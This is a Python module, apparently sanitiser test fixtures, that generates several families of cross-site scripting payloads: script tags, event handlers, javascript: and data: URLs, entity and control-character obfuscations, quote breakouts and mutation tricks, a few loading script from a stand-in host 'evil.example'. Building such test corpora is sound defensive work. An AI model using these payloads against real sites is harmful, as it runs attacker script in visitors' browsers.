"""Texts that would run something in a reader's browser if a page took them as they are (row S2)."""

from __future__ import annotations

from itertools import product

RUN = "alert(x)"

SCRIPTS = tuple(
    form.format(RUN)
    for form in (
        "<script>{}</script>",
        "<SCRIPT>{}</SCRIPT>",
        "<ScRiPt >{}</sCrIpT >",
        "<script\n>{}</script\n>",
        "<script/x>{}</script>",
        "<script\t/>{}</script>",
        "<script src=//evil.example/x.js></script>{}",
        '<script src="data:text/javascript,{}"></script>',
        "<script type=module>{}</script>",
        "<script>{}",
        "<script>{}//",
        "<script>{}</script",
        "<<script>{}//<</script>",
        "<scr<script>ipt>{}</scr</script>ipt>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "</style><script>{}</script>",
        "</script><script>{}</script>",
        "--><script>{}</script>",
        "]]><script>{}</script>",
        "<!--><script>{}</script>-->",
        "<!--<img src='--><script>{}</script>'>",
        "<noscript><p title='</noscript><script>{}</script>'>",
        "<svg><script>{}</script></svg>",
        "<svg><script href=data:,{} />",
        "<math><mtext><script>{}</script></mtext></math>",
        "<template><script>{}</script></template>",
        "<xmp><script>{}</script></xmp>",
        "<b/><script>{}</script>",
        "<p><script>{}</script></p>",
    )
)

_TAGS = ("img src=x", "svg", "body", "input autofocus", "video", "details open", "a href=/x")
_EVENTS = ("onerror", "onload", "onclick", "ONFOCUS", "onToggle", "onmouseover", "onanimationend")
HANDLERS = (
    *(f"<{tag} {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)),
    *(
        form.format(RUN)
        for form in (
            "<img/src=x/onerror={}>",
            "<img src=x\nonerror\n=\n{}>",
            "<img src=x\tonerror='{}'>",
            '<img src=x onerror="{}"',
            "<img src=x onerror={}",
            "<img src='x'onerror='{}'>",
            '<img """><img src=x onerror={}>',
            "<img src=x onerror=&#97;lert(1) title='{}'>",
            "<img src=`x`onerror={}>",
            "<img src=x:x onerror\x0c={}>",
            "<svg/onload={}//",
            "<svg><animate onbegin={} attributeName=x dur=1s>",
            "<svg><a><set onend={}></a></svg>",
            "<b onpointerenter={}>x</b>",
            "<p style=animation-name:x onanimationstart={}>x</p>",
            "<marquee onstart={}>x</marquee>",
            "<select onfocus={} autofocus><option>x</select>",
            "<audio src onloadstart={}>",
            "<style onload={}></style>",
            "<iframe onload={}></iframe>",
            "<table><td background=x onmousemove={}>x</table>",
            "<a title='<img src=x onerror={}>'>x</a>",
            "<a title='\" onclick=x' onclick={}>x</a>",
            "</p><p onclick={}>x",
            "<x contenteditable onblur={}>x</x>",
        )
    ),
)

_SCHEMES = (
    f"javascript:{RUN}",
    f"JavaScript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" &#14; javascript:{RUN}",
    f"java&#115;cript:{RUN}",
    f"java&#115cript:{RUN}",
    f"java&#0000115;cript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"jav&#x0A;ascript&#58;{RUN}",
    f"jav\u200bascript:{RUN}",
    f"vbscript:{RUN}",
    f"VBScript&#58;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:application/xhtml+xml,x",
    "blob:https://city.example/x",
    "file:///etc/passwd",
    "view-source:javascript:x",
    "livescript:x",
)
ADDRESSES = (
    *(f'<a href="{address}">x</a>' for address in _SCHEMES),
    *(f"[x]({address})" for address in _SCHEMES),
    *(
        form.format(f"javascript:{RUN}")
        for form in (
            "<a href={}>x</a>",
            "<a href='  {}'>x</a>",
            "<a xlink:href={}>x</a>",
            "<svg><a xlink:href={}><text>x</text></a></svg>",
            "<img src={}>",
            "<img srcset='{} 1x'>",
            "<area href={}>",
            "<base href={}//>",
            "<form action={}><button>x</button></form>",
            "<button formaction={}>x</button>",
            "<input type=image formaction={}>",
            "<iframe src={}></iframe>",
            "<iframe srcdoc='<a href={}>x</a>'></iframe>",
            "<object data={}></object>",
            "<embed src={}>",
            "<link rel=stylesheet href={}>",
            "<meta http-equiv=refresh content='0;url={}'>",
            "<video poster={}></video>",
            "<body background={}>",
            "<math href={}>x</math>",
            "<q cite={}>x</q>",
            "[x](<{}>)",
            "[x]( {} 'y')",
            "[x](javascript\\:{})",
            "![x]({})",
            "[![x](y.png)]({})",
            "<{}>",
            "[x][y]\n\n[y]: {}",
            "{}",
        )
    ),
)

ENTITIES = tuple(
    form.format(RUN)
    for form in (
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
        "&lt;img src=x onerror={}&gt;",
        "&LT;svg onload={}&GT;",
        "&#0000060script&#0000062{}",
        "&amp;lt;script&amp;gt;{}",
        "&amp;#60;img src=x onerror={}&amp;#62;",
        "\\<script\\>{}\\</script\\>",
        "\\<img src=x onerror={}\\>",
    )
)

QUOTES = tuple(
    form.format(RUN)
    for form in (
        '" onmouseover="{}',
        "' onmouseover='{}",
        '" autofocus onfocus={} x="',
        '"><script>{}</script>',
        "'><img src=x onerror={}>",
        '"/><svg onload={}>',
        "` onerror={}",
        '"onclick={}//',
    )
)

CONTROLS = tuple(
    form.format(RUN)
    for form in (
        "<scr\x00ipt>{}</scr\x00ipt>",
        "<\x00script>{}</script>",
        "<img\x0bsrc=x\x0bonerror={}>",
        "<img src=x \x00onerror={}>",
        "<img src=x on\x00error={}>",
        "<a href='java\x00script:{}'>x</a>",
        "\u202e<script>{}</script>",
        "\ufeff<script>{}</script>",
        "<script\u2028>{}</script>",
        "<img src=x\u00a0onerror={}>",
        "<img src=x\u3000onerror={}>",
        "<sc\u00adript>{}</sc\u00adript>",
    )
)

OTHERS = tuple(
    form.format(RUN)
    for form in (
        "<!-- {} -->",
        "<![CDATA[<img src=x onerror={}>]]>",
        "<?xml-stylesheet href='javascript:{}'?>",
        "<!ENTITY x '{}'>",
        "<!DOCTYPE html SYSTEM '{}'>",
        "<style>@import 'javascript:{}';</style>",
        "<style>p{{background:url(javascript:{})}}</style>",
        "<p style='background:url(javascript:{})'>x</p>",
        "<div style='width:expression({})'>x</div>",
        "<link rel=import href='//evil.example/{}'>",
        "<object><param name=x value={}></object>",
        "<applet code={}></applet>",
        "<keygen autofocus onfocus={}>",
        "<frameset onload={}><frame></frameset>",
        "<dialog open onclose={}>x</dialog>",
        "<math><annotation-xml encoding=text/html><img src=x onerror={}></annotation-xml></math>",
        "<svg><foreignObject><iframe srcdoc='{}'></iframe></foreignObject></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
        "<div id=config data-x='{}'><a id=config name=url href=//evil.example>x</a></div>",
        "<textarea>{}</textarea>",
        "<portal src='javascript:{}'>",
        "{{{{constructor.constructor('{}')()}}}}<script>",
        "</article></main></body><script>{}</script>",
        "**x**<img src=x onerror={}>*y*",
        "`<b>`<img src=x onerror={}>",
        "| x | <img src=x onerror={}> |",
        "x  \n<img src=x onerror={}>",
    )
)

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "entities": ENTITIES,
    "quotes": QUOTES,
    "controls": CONTROLS,
    "others": OTHERS,
}
ALL = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
